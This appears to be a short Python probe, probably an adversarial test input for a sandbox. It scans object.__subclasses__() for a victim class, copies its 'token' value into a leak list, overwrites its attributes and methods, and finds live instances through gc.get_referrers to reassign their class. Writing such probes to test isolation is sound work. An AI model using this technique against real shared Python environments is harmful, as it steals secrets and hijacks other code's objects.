# Finds a foreign class via __subclasses__ and mutates it: token, __getattribute__, __del__, __bases__, __class__ of instances.
import gc
LEAKED = []
class Mine: pass
def steal(self, name):
    return "pwned"
for c in object.__subclasses__():
    if c is Mine: continue
    if c.__name__ != "VictimClass" and "token" not in c.__dict__: continue
    LEAKED.append(c.__dict__.get("token"))
    for k, v in (("token", "pwned"), ("__getattribute__", steal), ("__del__", lambda s: None),
                 ("__repr__", lambda s: "pwned"), ("__bases__", (Mine,))):
        try: setattr(c, k, v)
        except Exception: pass
    try:
        for inst in gc.get_referrers(c):
            if type(inst) is c:
                LEAKED.append(inst)
                inst.__class__ = Mine
    except Exception:
        pass
print("done")
